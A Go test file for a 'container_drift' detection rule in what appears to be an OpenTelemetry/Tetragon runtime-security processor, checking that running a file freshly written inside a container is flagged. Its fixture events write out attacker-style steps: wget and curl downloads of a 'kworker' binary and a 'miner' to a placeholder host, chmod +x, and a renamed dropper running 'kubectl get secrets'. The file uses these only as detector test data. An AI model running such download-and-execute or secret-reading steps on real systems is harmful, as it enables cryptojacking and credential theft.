// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package builtin_test

import (
	"bytes"
	"context"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cilium/tetragon/api/v1/tetragon"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/attrkey"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/eventmap"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/testenv"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/tetragonjson"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/processor/detectionprocessor/internal/drift"
	"github.com/otelcol-runtime-security/otelcol-runtime-security/processor/detectionprocessor/internal/rules"
)

// sequenceRules fire on what a sequence of events did, not on one event as the
// receiver maps it (container_drift: the drift tracker's mark; unexpected_*: the
// workload_profile processor's runtime_security.profile.* marks): TestRuleCases'
// single-event cases cannot express them, so they are proved here and in
// profile_test.go (positives and negatives each) and skipped there.
var sequenceRules = map[string]bool{
	"container_drift":    true,
	"unexpected_process": true, "unexpected_file_access": true, "unexpected_syscall": true, "unexpected_network_peer": true,
}

// driftRun maps each line on its own (so the records keep the order of the
// lines, as one container's records do in the receiver's batches), passes it
// through a drift tracker as the processor does (before the rules), evaluates
// the catalogue and returns the rule names per line (nil for a line that makes
// no record), and the tracker's mark (runtime_security.drift) per line.
func driftRun(t testing.TB, rs *rules.Ruleset, tr *drift.Tracker, lines [][]byte) (out [][]string, marks []string) {
	t.Helper()
	out, marks = make([][]string, len(lines)), make([]string, len(lines))
	var ev tetragon.GetEventsResponse
	for i, l := range lines {
		if err := tetragonjson.DecodeJSON(l, &ev); err != nil {
			continue
		}
		batch := eventmap.NewBatch(eventmap.Options{})
		_ = batch.Add(&ev, l, time.Now())
		ld := batch.Flush()
		for j := 0; j < ld.ResourceLogs().Len(); j++ {
			rl := ld.ResourceLogs().At(j)
			for k := 0; k < rl.ScopeLogs().Len(); k++ {
				sl := rl.ScopeLogs().At(k)
				for m := 0; m < sl.LogRecords().Len(); m++ {
					lr := sl.LogRecords().At(m)
					marks[i] = tr.Track(lr.EventName(), rl.Resource().Attributes(), lr.Attributes(), int64(lr.Timestamp())).Drift
					for _, r := range rs.EvaluateRecord(context.Background(), rl, sl, lr, nil, func(r *rules.Rule, err error) {
						t.Errorf("line %d: rule %s failed to evaluate: %v", i, r.Name, err)
					}) {
						out[i] = append(out[i], r.Name)
					}
				}
			}
		}
	}
	return out, marks
}

// inContainer puts the process in a container known by Tetragon's docker field.
func inContainer(id string) func(proc) { return func(pr proc) { pr["docker"] = id } }

// at sets an event line's time to t0 plus d.
func at(line []byte, d time.Duration) []byte {
	t0 := time.Date(2026, 11, 26, 17, 0, 1, 0, time.UTC)
	return bytes.Replace(line, []byte(`"time":"2026-11-26T17:00:01.000000000Z"`),
		[]byte(`"time":"`+t0.Add(d).Format(time.RFC3339Nano)+`"`), 1)
}

func TestContainerDriftSequences(t *testing.T) {
	rs := builtin(t)
	const atFDCWD = -100
	pod := inPod("shop", "web-7d9f")
	podShell := p("/bin/sh", "", pod, initTree(false))
	dockerSh := p("/bin/sh", `-c "id"`, inDocker)
	runcExec := p("/usr/sbin/runc", "--root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach --pid-file /run/x.pid "+ctrID)
	hostBash := p("/usr/bin/bash", "")
	openat := func(pr, parent proc, path string, flags int, mode uint32) []byte {
		return tp("syscalls/sys_enter_openat", pr, parent, intArg(atFDCWD), strArg(path), intArg(flags), uintArg(mode))
	}
	otherCtr := inContainer("9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4")

	type step struct {
		line   []byte
		want   bool // container_drift fires on it
		marked bool // the tracker marks it though the rule does not fire (an exclusion)
	}
	tests := []struct {
		name  string
		steps []step
	}{
		{"printf > /usr/bin/newfile, then run it (docker container)", []step{
			{openat(p("/bin/sh", `-c "printf x > /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 577, 0o666), false, false},
			{at(exec(p("/usr/bin/newfile", "", inDocker), dockerSh), time.Second), true, false},
		}},
		{"wget -O then chmod +x, then run it (pod)", []step{
			{openat(p("/usr/bin/wget", "-O /usr/local/bin/kworker http://x/k", pod), podShell, "/usr/local/bin/kworker", 0o1101, 0o644), false, false},
			{at(tp("syscalls/sys_enter_chmod", p("/bin/chmod", "+x /usr/local/bin/kworker", pod), podShell, strArg("/usr/local/bin/kworker"), uintArg(0o755)), time.Second), false, false},
			{at(exec(p("/usr/local/bin/kworker", "", pod, initTree(false)), podShell), 2*time.Second), true, false},
		}},
		{"chmod +x of an image file, then run it (kprobe, busybox st_mode)", []step{
			{kprobe("__x64_sys_fchmodat", p("/bin/busybox", "chmod +x /opt/app/run.sh", pod), podShell, intArg(atFDCWD), strArg("/opt/app/run.sh"), uintArg(0o100755)), false, false},
			{at(exec(p("/opt/app/run.sh", "", pod), podShell), time.Minute), true, false},
		}},
		{"renamed into place, then run twice: every run is marked", []step{
			{kprobe("__x64_sys_renameat2", p("/tmp/dropper", "", pod), podShell, intArg(atFDCWD), strArg("/tmp/.k"), intArg(atFDCWD), strArg("/usr/local/bin/kubectl"), intArg(0)), false, false},
			{at(exec(p("/usr/local/bin/kubectl", "get pods", pod), podShell), time.Second), true, false},
			{at(exec(p("/usr/local/bin/kubectl", "get secrets", pod), podShell), 2*time.Second), true, false},
		}},
		{"relative path from the process's directory", []step{
			{openat(p("/usr/bin/curl", "-o miner http://x/m", pod, func(pr proc) { pr["cwd"] = "/root" }), podShell, "miner", 577, 0o755), false, false},
			{at(exec(p("/root/miner", "", pod), podShell), time.Second), true, false},
		}},
		// Negative sequences.
		{"exec without a write", []step{
			{exec(p("/usr/bin/newfile", "", inDocker), dockerSh), false, false},
		}},
		{"open for writing without O_CREAT, then run it", []step{
			{openat(p("/bin/sh", `-c "echo >> /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 0o2001, 0), false, false},
			{at(exec(p("/usr/bin/newfile", "", inDocker), dockerSh), time.Second), false, false},
		}},
		{"chmod 644, then run it", []step{
			{tp("syscalls/sys_enter_chmod", p("/bin/sh", `-c "chmod 644 /srv/app/tool"`, inDocker), runcExec, strArg("/srv/app/tool"), uintArg(0o644)), false, false},
			{at(exec(p("/srv/app/tool", "", inDocker), dockerSh), time.Second), false, false},
		}},
		{"written in container A, run in container B", []step{
			{openat(p("/bin/sh", `-c "printf x > /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 577, 0o666), false, false},
			{at(exec(p("/usr/bin/newfile", "", otherCtr), p("/bin/sh", "", otherCtr)), time.Second), false, false},
		}},
		{"written on the host, run on the host and in a container", []step{
			{openat(p("/usr/bin/cp", "a /usr/local/bin/a"), hostBash, "/usr/local/bin/a", 577, 0o755), false, false},
			{at(exec(p("/usr/local/bin/a", ""), hostBash), time.Second), false, false},
			{at(exec(p("/usr/local/bin/a", "", inDocker), dockerSh), time.Second), false, false},
		}},
		{"another file of the container run", []step{
			{openat(p("/bin/sh", `-c "printf x > /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 577, 0o666), false, false},
			{at(exec(p("/usr/bin/env", "", inDocker), dockerSh), time.Second), false, false},
		}},
		{"run after the tracker's ttl (1h)", []step{
			{openat(p("/bin/sh", `-c "printf x > /usr/bin/newfile"`, inDocker), runcExec, "/usr/bin/newfile", 577, 0o666), false, false},
			{at(exec(p("/usr/bin/newfile", "", inDocker), dockerSh), 2*time.Hour), false, false},
		}},
		{"runc's own re-exec (/dev/fd/N init) is not drift", []step{
			{openat(p("/usr/sbin/runc", "init", inDocker), runcExec, "/dev/fd/5", 0o102, 0o700), false, false},
			{at(exec(p("/dev/fd/5", "init", inDocker), p("/proc/self/exe", "init", inDocker)), time.Second), false, true},
		}},
	}
	positives, negatives := map[string]int{}, map[string]int{}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lines := make([][]byte, len(tt.steps))
			for i, s := range tt.steps {
				lines[i] = s.line
			}
			got, marks := driftRun(t, rs, drift.New(100, time.Hour, nil), lines)
			any := false
			for i, s := range tt.steps {
				if fired := slices.Contains(got[i], "container_drift"); fired != s.want {
					t.Errorf("step %d: container_drift fired %v, want %v (rules %v)", i, fired, s.want, got[i])
				}
				if marked := marks[i] != ""; marked != (s.want || s.marked) {
					t.Errorf("step %d: tracker mark %q, want marked %v", i, marks[i], s.want || s.marked)
				}
				any = any || s.want
			}
			if any {
				positives["container_drift"]++
			} else {
				negatives["container_drift"]++
			}
		})
	}
	for _, name := range []string{"container_drift"} {
		if positives[name] == 0 || negatives[name] == 0 {
			t.Errorf("sequence rule %s: %d positive and %d negative sequences, want at least one of each", name, positives[name], negatives[name])
		}
	}
}

// TestContainerDriftOnRealEvents: the real syscalls/ run writes and chmods
// files in its containers but executes none of them, and the captured runs
// neither: container_drift never fires there. With the real exec of the
// helper renamed to the file step write-usr-bin wrote (printf > /usr/bin/newfile
// && chmod +x, busybox's sys_enter_openat and sys_enter_chmod), it fires.
func TestContainerDriftOnRealEvents(t *testing.T) {
	rs := builtin(t)
	dir := testenv.EventsDir(t)
	files, _ := filepath.Glob(filepath.Join(dir, "captured", "*.jsonl.gz"))
	files = append(files, filepath.Join(dir, "syscalls", "export.jsonl.gz"))
	for _, f := range files {
		tr := drift.New(10000, time.Hour, nil)
		got, _ := driftRun(t, rs, tr, testenv.ReadLines(t, f))
		for i, names := range got {
			if slices.Contains(names, "container_drift") {
				t.Errorf("%s line %d: container_drift fired", filepath.Base(f), i+1)
			}
		}
		t.Logf("%s: %d files remembered", filepath.Base(f), tr.Len())
	}

	// The real write of /usr/bin/newfile in container app, then a real exec in
	// app whose binary is renamed to it.
	lines := testenv.ReadLines(t, filepath.Join(dir, "syscalls", "export.jsonl.gz"))
	var seq [][]byte
	for _, l := range lines {
		s := string(l)
		switch {
		case len(seq) == 0 && strings.Contains(s, `"sys_enter_openat"`) && strings.Contains(s, `"/usr/bin/newfile"`):
			seq = append(seq, l)
		case len(seq) == 1 && strings.Contains(s, `"sys_enter_chmod"`) && strings.Contains(s, `"/usr/bin/newfile"`):
			seq = append(seq, l)
		case len(seq) == 2 && strings.Contains(s, `"process_exec"`) && strings.Contains(s, `"binary":"/usr/local/bin/sysx"`) && strings.Contains(s, `"cb7a5c27fe6155da4bd86cf513c3486"`):
			seq = append(seq, []byte(strings.Replace(s, `"binary":"/usr/local/bin/sysx"`, `"binary":"/usr/bin/newfile"`, 1)))
		}
	}
	if len(seq) != 3 {
		t.Fatalf("found %d of the 3 real events (openat, chmod, exec)", len(seq))
	}
	tr := drift.New(10000, time.Hour, nil)
	got, marks := driftRun(t, rs, tr, seq)
	if !slices.Contains(got[2], "container_drift") || slices.Contains(got[0], "container_drift") || slices.Contains(got[1], "container_drift") {
		t.Errorf("container_drift on openat %v, chmod %v, exec %v; want on the exec only", got[0], got[1], got[2])
	}
	// The mark names the syscall that created the file, not the later chmod.
	if marks[2] != "openat" {
		t.Errorf("runtime_security.drift = %q, want openat", marks[2])
	}
	// Written to the record itself, as the rules and the exporters see it.
	recs := mapLines(t, seq[2:], 1)
	tr.Track(recs[0].lr.EventName(), recs[0].rl.Resource().Attributes(), recs[0].lr.Attributes(), int64(recs[0].lr.Timestamp()))
	if v, _ := recs[0].lr.Attributes().Get(attrkey.RuntimeSecurityDrift); v.Str() != "openat" {
		t.Errorf("record attribute runtime_security.drift = %q, want openat", v.Str())
	}
}
